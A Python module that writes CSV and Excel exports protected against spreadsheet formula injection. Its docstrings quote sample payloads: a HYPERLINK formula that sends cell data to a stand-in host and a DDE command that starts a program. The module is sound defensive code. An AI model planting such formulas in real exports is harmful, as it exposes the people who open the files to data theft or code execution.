"""Spreadsheet exports (CSV and .xlsx) that a spreadsheet cannot mistake for formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from ..errors import SpecError

__all__ = [
    "CSV_DIALECTS",
    "FORMULA_TRIGGERS",
    "metrics_xlsx",
    "neutralise",
    "safe_csv",
    "safe_frame",
    "to_xlsx",
]

#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
#: (OWASP "CSV Injection"; OWASP ASVS 5.0 requirement 1.2.10 adds the NUL character).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")

#: How :func:`safe_csv` writes a file: separator, decimal mark, byte-order mark, line end.
CSV_DIALECTS = {
    # RFC 4180-like, what pandas, R and Python read back without options.
    "plain": {"sep": ",", "decimal": ".", "bom": False, "lineterminator": "\n"},
    # Excel in a Norwegian, Swedish, Danish or Finnish locale: ';' between fields, decimal
    # comma, and a UTF-8 byte-order mark so that æøå and åäö are not shown as Ã¦Ã¸Ã¥.
    "excel-nordic": {"sep": ";", "decimal": ",", "bom": True, "lineterminator": "\r\n"},
    # Excel in an English locale: ',' between fields and a decimal point, with the same
    # byte-order mark and line ends (``graphmodel.i18n.csv_dialect`` picks by language).
    "excel": {"sep": ",", "decimal": ".", "bom": True, "lineterminator": "\r\n"},
}

# A cell that is only a number ("-12", "+3.5", "-1,5", "2e-3") cannot call a function or
# reach a link: a spreadsheet reads it as that number, so it is left as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe when a spreadsheet would read it as a formula.

    A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a
    NUL character is run as a formula when the file is opened in Excel, LibreOffice Calc
    or Google Sheets (``=HYPERLINK("http://evil.example/?"&A1, "Click")`` sends the
    neighbouring cell away; ``=cmd|' /C calc'!A0`` starts a program on old Excel). The
    OWASP advice is to prefix such a cell with a single quote ``'``, which every
    spreadsheet shows as text. That is what this function does.

    Only ``str`` values are touched: numbers, dates, ``None`` and ``NaN`` come back as
    they are, so a real negative number stays a number. A text that is nothing but a
    plain number (``"-12"``, ``"+3.5"``, ``"-1,5"``) is also left alone: it cannot
    call a function, and a planner's "-1200" should not turn into "'-1200". The
    apostrophe is visible when a CSV file is opened in Excel (it hides it only in cells
    typed by hand): that is the price of safety, and it shows the reader the cell was
    text.

    The function is idempotent: a neutralised value starts with ``'`` and is not
    changed again.

    Parameters
    ----------
    value : Any
        A cell value.

    Returns
    -------
    Any
        ``"'" + value`` for a risky text, otherwise ``value`` unchanged.

    References
    ----------
    OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection ;
    OWASP ASVS 5.0, requirement 1.2.10; CWE-1236.

    Examples
    --------
    >>> print(neutralise('=HYPERLINK("http://x","y")'))
    '=HYPERLINK("http://x","y")
    >>> neutralise("@SUM(A1:A9)"), neutralise("-2+3"), neutralise("+47 22 33 44 55")
    ("'@SUM(A1:A9)", "'-2+3", "'+47 22 33 44 55")
    >>> neutralise("Værnesregionen"), neutralise(-3), neutralise("-3"), neutralise(None)
    ('Værnesregionen', -3, '-3', None)
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def _label(label: Any) -> Any:
    """A column or index label made safe (tuples of a MultiIndex element by element)."""
    if isinstance(label, tuple):
        return tuple(neutralise(part) for part in label)
    return neutralise(label)


def _is_text(series: pd.Series) -> bool:
    dtype = series.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def _safe_series(series: pd.Series) -> pd.Series:
    """Neutralise a text column: each *distinct* value once, then mapped back (a pair table
    of 6 million rows holds only some 30,000 distinct ids and names)."""
    if not _is_text(series):
        return series  # numbers, booleans, dates: a spreadsheet reads them as values
    codes, uniques = pd.factorize(series, use_na_sentinel=True)
    safe = np.empty(len(uniques), dtype=object)
    safe[:] = [neutralise(v) for v in np.asarray(uniques, dtype=object)]
    known = codes >= 0
    values = safe[np.where(known, codes, 0)] if len(safe) else np.empty(len(codes), dtype=object)
    if not known.all():  # missing cells stay as they were (NaN, None)
        values[~known] = series[~known].to_numpy(dtype=object)
    out = pd.Series(values, index=series.index, name=series.name, dtype=object)
    if pd.api.types.is_string_dtype(series.dtype) and not pd.api.types.is_object_dtype(
        series.dtype
    ) and not isinstance(series.dtype, pd.CategoricalDtype):
        out = out.astype(series.dtype)  # keep pandas' str dtype
    return out


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised.

    Every text cell goes through :func:`neutralise`; numeric, boolean and date columns
    are returned untouched (same dtype, same values). Column names are neutralised too,
    because extra columns of a user's CSV file carry names chosen by whoever wrote it.
    The input is not modified.

    Parameters
    ----------
    frame : pandas.DataFrame
        Any table.

    Returns
    -------
    pandas.DataFrame
        A new frame, same shape and order.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"name": ["Stjørdal", "=1+1"], "share": [-0.5, 0.25]})
    >>> out = safe_frame(df)
    >>> out["name"].tolist(), out["share"].tolist()
    (['Stjørdal', "'=1+1"], [-0.5, 0.25])
    >>> df["name"].tolist()
    ['Stjørdal', '=1+1']
    """
    if not isinstance(frame, pd.DataFrame):
        raise TypeError(f"safe_frame() needs a pandas DataFrame, not {type(frame).__name__}")
    columns = [_label(c) for c in frame.columns]
    data = {i: _safe_series(frame.iloc[:, i]) for i in range(frame.shape[1])}
    # concat keeps each column's dtype as it is (the DataFrame constructor would re-infer
    # text columns, 0.6 s on a 6-million-row pair table)
    out = pd.concat(data, axis=1) if data else pd.DataFrame(index=frame.index)
    out.index = frame.index
    if isinstance(frame.columns, pd.MultiIndex):
        out.columns = pd.MultiIndex.from_tuples(columns, names=frame.columns.names)
    else:
        out.columns = pd.Index(columns, dtype=object, name=frame.columns.name)
    if isinstance(frame.index, pd.MultiIndex):
        out.index = pd.MultiIndex.from_tuples(
            [_label(v) for v in frame.index], names=frame.index.names
        )
    elif _is_text(frame.index.to_series()):
        out.index = pd.Index(
            [neutralise(v) for v in frame.index], dtype=object, name=frame.index.name
        )
    return out


def safe_csv(
    frame: pd.DataFrame,
    path_or_buf=None,
    *,
    dialect: str = "plain",
    **to_csv_kwargs: Any,
) -> str | None:
    """Write ``frame`` as CSV with every risky text cell neutralised.

    The cells go through :func:`safe_frame` first, so a name such as
    ``=HYPERLINK("http://x","y")`` is written as ``'=HYPERLINK(...)`` and shown, never run.
    The text is always UTF-8 and the row index is left out unless ``index=True`` is given.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table to write.
    path_or_buf : str, os.PathLike, file object or None
        Where to write. ``None`` returns the text instead. A path is written as UTF-8
        bytes; a binary file object receives bytes; a text file object receives text.
    dialect : {"plain", "excel-nordic", "excel"}
        ``"plain"`` (default): comma, decimal point, no byte-order mark, ``\\n`` line ends,
        what pandas, R and Python read back as they are. ``"excel-nordic"``: semicolon,
        decimal comma, a UTF-8 byte-order mark and ``\\r\\n`` line ends, which Excel in a
        Norwegian, Swedish, Danish or Finnish locale opens by double-click with columns
        split and æøå intact. The returned text then begins with ``"\\ufeff"`` so that
        encoding it as UTF-8 gives the byte-order mark. ``"excel"``: the same for Excel in an
        English locale, with ``,`` and a decimal point.
    **to_csv_kwargs
        Passed on to :meth:`pandas.DataFrame.to_csv` (``columns``, ``float_format``,
        ``date_format``, ``na_rep``, ...); they win over the dialect's choices. ``encoding``
        is refused: the output is UTF-8.

    Returns
    -------
    str or None
        The CSV text when ``path_or_buf`` is ``None``.

    Raises
    ------
    SpecError
        Unknown ``dialect``, or an ``encoding`` argument.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"name": ["Malvik", "=1+1"], "share": [0.5, -0.25]})
    >>> print(safe_csv(df), end="")
    name,share
    Malvik,0.5
    '=1+1,-0.25
    >>> safe_csv(df, dialect="excel-nordic")
    "\\ufeffname;share\\r\\nMalvik;0,5\\r\\n'=1+1;-0,25\\r\\n"
    """
    if dialect not in CSV_DIALECTS:
        raise SpecError(
            f"unknown CSV dialect {dialect!r}: use one of {', '.join(map(repr, CSV_DIALECTS))}"
        )
    if "encoding" in to_csv_kwargs:
        raise SpecError(
            "safe_csv() always writes UTF-8; drop the encoding argument "
            "(use dialect='excel-nordic' for Excel)"
        )
    spec = dict(CSV_DIALECTS[dialect])
    bom = spec.pop("bom")
    options = {"index": False, **spec, **to_csv_kwargs}
    text = _plain_csv(frame) if options == _PLAIN_OPTIONS else None
    if text is None:  # another dialect or option, or a column the fast writer does not know
        text = safe_frame(frame).to_csv(None, **options)
    if bom:
        text = "\ufeff" + text
    if path_or_buf is None:
        return text
    if isinstance(path_or_buf, (str, os.PathLike)):
        with open(path_or_buf, "wb") as fh:
            fh.write(text.encode("utf-8"))
    elif isinstance(path_or_buf, io.TextIOBase):
        path_or_buf.write(text)
    else:  # a binary file object (BytesIO, open(..., "wb"), an upload/download buffer)
        path_or_buf.write(text.encode("utf-8"))
    return None


#: the options ``safe_csv`` gives pandas for the "plain" dialect: what :func:`_plain_csv` writes
_PLAIN_OPTIONS = {"index": False, "sep": ",", "decimal": ".", "lineterminator": "\n"}
#: what makes the csv module quote a cell or treat it apart (a table holding one is joined
#: by the csv module itself, as pandas does)
_CSV_SPECIAL = re.compile('[,"\r\n\0]')


def _cells(series: pd.Series) -> list[str] | None:
    """A column's cells as text, exactly as pandas' ``to_csv`` writes them in the plain
    dialect (a missing value as an empty cell), its text neutralised; ``None`` for a type
    the fast writer leaves to pandas (dates, float32, non-text categories, mixed objects)."""
    dtype = series.dtype
    if isinstance(dtype, np.dtype) and dtype.kind in "fiub":
        values = series.to_numpy()
        if dtype.kind == "f":
            if dtype.itemsize != 8:  # float32 is written with its own shortest digits
                return None
            # each distinct bit pattern formatted once (-0.0 stays -0.0); Python's float
            # repr gives numpy's digits (pandas writes values.astype(str)), faster
            codes, uniques = pd.factorize(values.view(np.int64))
            floats = uniques.view(np.float64)
            text = [repr(x) for x in floats.tolist()]
            for i in np.flatnonzero(np.isnan(floats)).tolist():
                text[i] = ""
        else:  # integers and booleans: str(), as the csv module writes them
            codes, uniques = pd.factorize(values)
            text = [str(x) for x in uniques.tolist()]
        return np.array(text, dtype=object)[codes].tolist() if len(text) else []
    if isinstance(dtype, pd.api.extensions.ExtensionDtype) and dtype.kind in "iub":
        # nullable integers and booleans: str() of each, a missing one empty
        return ["" if v is None else str(v)
                for v in series.to_numpy(dtype=object, na_value=None).tolist()]
    if isinstance(dtype, pd.CategoricalDtype):  # the pair tables' ids and names
        if len(dtype.categories) and pd.api.types.infer_dtype(dtype.categories) != "string":
            return None
        names = [neutralise(c) for c in dtype.categories.tolist()] + [""]  # code -1: missing
        return np.array(names, dtype=object)[series.cat.codes.to_numpy()].tolist()
    if not _is_text(series):
        return None
    if pd.api.types.infer_dtype(series, skipna=True) not in ("string", "empty"):
        return None  # an object column holding numbers or dates: pandas knows how
    values = series.to_numpy(dtype=object, na_value="").tolist()
    # only a cell that begins with a trigger can need the apostrophe: found vectorised
    first = series.str[:1].isin(FORMULA_TRIGGERS).to_numpy(dtype=bool, na_value=False)
    for i in np.flatnonzero(first).tolist():
        values[i] = neutralise(values[i])
    return values


def _plain_csv(frame: pd.DataFrame) -> str | None:
    """``safe_frame(frame).to_csv(index=False)`` in the plain dialect, byte for byte, written
    column by column; ``None`` where pandas has to write it (see :func:`_cells`).

    >>> df = pd.DataFrame({"name": ["Malvik", "=1+1", None], "x": [0.1, -0.0, float("nan")]})
    >>> print(_plain_csv(df), end="")
    name,x
    Malvik,0.1
    '=1+1,-0.0
    ,
    """
    if frame.shape[1] < 2 or isinstance(frame.columns, pd.MultiIndex):
        return None  # one column: the csv module quotes an empty cell alone on its line
    header = [_label(c) for c in frame.columns]
    if not all(isinstance(c, str) for c in header):
        return None
    columns = []
    for i in range(frame.shape[1]):
        cells = _cells(frame.iloc[:, i])
        if cells is None:
            return None
        columns.append(cells)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")  # pandas' writer, for the header
    writer.writerow(header)
    texts = [c for c, series in zip(columns, frame.dtypes, strict=True) if series.kind not in "fiub"]
    if any(_CSV_SPECIAL.search("".join(cells)) for cells in texts):
        writer.writerows(zip(*columns, strict=True))  # quoting: as the csv module does it
    elif len(frame):
        out.write("\n".join(map(",".join, zip(*columns, strict=True))))
        out.write("\n")
    return out.getvalue()


# --------------------------------------------------------------------------- .xlsx

# XML 1.0 cannot hold these control characters, so no .xlsx cell can
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_SHEET_ILLEGAL = re.compile(r"[\[\]:*?/\\]")


def _xlsx_value(value: Any, where: str) -> Any:
    """A cell value for openpyxl: numbers and dates as such, text as text, NaN as empty."""
    if value is None or (not isinstance(value, str) and pd.isna(value)):
        return None
    if isinstance(value, (bool, np.bool_)):
        return bool(value)
    if isinstance(value, (int, np.integer)):
        return int(value)
    if isinstance(value, (float, np.floating)):
        return float(value) if np.isfinite(value) else str(value)
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, (dt.date, dt.datetime)):
        return value
    text = str(value)
    if text == "":
        return None
    bad = _XML_ILLEGAL.search(text)
    if bad:
        raise SpecError(
            f"{where} holds the control character U+{ord(bad.group()):04X}, which an .xlsx "
            "file cannot store: remove it, or export as CSV"
        )
    return text


def _text_cell(ws, value: str):
    """A cell that holds ``value`` as text, never as a formula (however it begins)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"  # openpyxl makes '=…' a formula and '#N/A' an error: undo both
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        cell.quotePrefix = True  # Excel keeps it text even when the cell is edited
    return cell


def _check_storable(title: str, frame: pd.DataFrame) -> None:
    """Raise before any writing starts (a half-written workbook leaves a dangling writer)."""
    for i, name in enumerate(frame.columns):
        _xlsx_value(str(name), f"{title}, the name of column {i + 1}")
        col = frame.iloc[:, i]
        if not _is_text(col):
            continue
        texts = [v for v in col.tolist() if isinstance(v, str)]
        if _XML_ILLEGAL.search("".join(texts)):
            for r, v in enumerate(col.tolist(), start=2):
                if isinstance(v, str):
                    _xlsx_value(v, f"{title}, row {r}, column {name}")


def _write_sheet(wb, title: str, frame: pd.DataFrame) -> None:
    from openpyxl.cell import WriteOnlyCell

    ws = wb.create_sheet(title=title)
    ws.append([_text_cell(ws, str(c)) for c in frame.columns])
    columns = [frame.iloc[:, i] for i in range(frame.shape[1])]
    names = [str(c) for c in frame.columns]
    for r, row in enumerate(zip(*(c.tolist() for c in columns)), start=2):
        out = []
        for name, value in zip(names, row):
            v = _xlsx_value(value, f"{title}, row {r}, column {name}")
            if isinstance(v, str):
                out.append(_text_cell(ws, v))
            elif isinstance(v, (dt.date, dt.datetime)):
                cell = WriteOnlyCell(ws, value=v)
                cell.number_format = "yyyy-mm-dd"
                out.append(cell)
            else:
                out.append(v)
        ws.append(out)


def _sheet_title(name: Any, taken: set) -> str:
    base = _SHEET_ILLEGAL.sub("_", str(name)).strip("'") or "sheet"
    base = base[:31]
    title, k = base, 2
    while title.lower() in taken:
        suffix = f" ({k})"
        title, k = base[: 31 - len(suffix)] + suffix, k + 1
    taken.add(title.lower())
    return title


def _save_workbook(wb, path):
    if path is None:
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()
    if hasattr(path, "write"):
        wb.save(path)
        return None
    path = Path(path)
    wb.save(path)
    return path


def to_xlsx(model_or_frames, path=None):
    """Write the three tables as an Excel workbook that :func:`graphmodel.data.load` reads back.

    Sheets ``actors``, ``collaborations`` and ``memberships``, with the columns of the
    model (extra columns too). Numbers are number cells, dates date cells
    (``yyyy-mm-dd``), empty values empty cells, and every text is a *text* cell: a name
    such as ``=HYPERLINK("http://x","y")`` is stored as text (with Excel's quote-prefix
    mark, so that it stays text when edited), never as a formula, and reads back
    unchanged, without the apostrophe the CSV exports need. Loading the workbook gives
    records equal to the model's.

    Parameters
    ----------
    model_or_frames : Model or mapping
        A :class:`~graphmodel.data.model.Model`, or ``{"actors": df, "collaborations": df,
        "memberships": df}`` (normalised with :meth:`Model.from_frames`, not validated).
    path : str, os.PathLike, binary file or None
        Where to write; ``None`` returns the workbook's bytes.

    Returns
    -------
    pathlib.Path, bytes or None
        The path written, the bytes (``path=None``), or ``None`` for a file object.

    Raises
    ------
    SpecError
        A text holds a control character that no .xlsx file can store.

    Examples
    --------
    >>> import graphmodel as gm
    >>> m = gm.load({"actors.csv": 'id,name,kind\\na,"=HYPERLINK(""http://x"",""y"")",'
    ...              'municipality\\nb,B,municipality',
    ...              "collaborations.csv": "id,name,kind,start\\nc,C,service,2007",
    ...              "memberships.csv": "actor,collaboration,share\\na,c,25 %\\nb,c,0.75"})
    >>> back = gm.load(to_xlsx(m))
    >>> back.actors.loc[0, "name"], back.memberships["share"].tolist()
    ('=HYPERLINK("http://x","y")', [0.25, 0.75])
    >>> back.content_hash() == m.content_hash()
    True
    """
    from openpyxl import Workbook

    from .model import Model

    if isinstance(model_or_frames, Model):
        model = model_or_frames
    elif isinstance(model_or_frames, Mapping):
        model = Model.from_frames(model_or_frames["actors"], model_or_frames["collaborations"],
                                  model_or_frames["memberships"])
    else:
        raise TypeError("to_xlsx() needs a Model or a mapping of the three frames, not "
                        f"{type(model_or_frames).__name__}")
    tables = ("actors", "collaborations", "memberships")
    if len(model.stated):  # the optional stated positions, as sheet "stated"
        tables += ("stated",)
    for table in tables:
        _check_storable(table, getattr(model, table))
    wb = Workbook(write_only=True)
    for table in tables:
        _write_sheet(wb, table, getattr(model, table))
    return _save_workbook(wb, path)


def metrics_xlsx(tables: Mapping[str, pd.DataFrame], path=None):
    """Write metric tables as the sheets of one workbook, formula-safe, numbers as numbers.

    Each table becomes a sheet named by its key (shortened to Excel's 31 characters,
    characters Excel forbids replaced by ``_``). Text cells are text, never formulas,
    as in :func:`to_xlsx`; numeric columns are number cells; missing values are empty.
    The row index is not written (the metric tables carry their ids as columns).

    Parameters
    ----------
    tables : mapping of str to pandas.DataFrame
        ``{"actors": df, "pairs": df, ...}``.
    path : str, os.PathLike, binary file or None
        Where to write; ``None`` returns the workbook's bytes.

    Examples
    --------
    >>> import io, openpyxl, pandas as pd
    >>> data = metrics_xlsx({"actors": pd.DataFrame({"id": ["a"], "name": ["=1+1"],
    ...                                               "fragmentation": [0.5]})})
    >>> ws = openpyxl.load_workbook(io.BytesIO(data))["actors"]
    >>> [(c.value, c.data_type) for c in ws[2]]
    [('a', 's'), ('=1+1', 's'), (0.5, 'n')]
    """
    from openpyxl import Workbook

    if not isinstance(tables, Mapping):
        raise TypeError(f"metrics_xlsx() needs a mapping name -> DataFrame, not "
                        f"{type(tables).__name__}")
    taken: set = set()
    titles = {}
    for name, frame in tables.items():
        if not isinstance(frame, pd.DataFrame):
            raise TypeError(f"table {name!r} is a {type(frame).__name__}, not a DataFrame")
        titles[name] = _sheet_title(name, taken)
        _check_storable(titles[name], frame)
    wb = Workbook(write_only=True)
    for name, frame in tables.items():
        _write_sheet(wb, titles[name], frame)
    if not tables:
        wb.create_sheet("empty")
    return _save_workbook(wb, path)
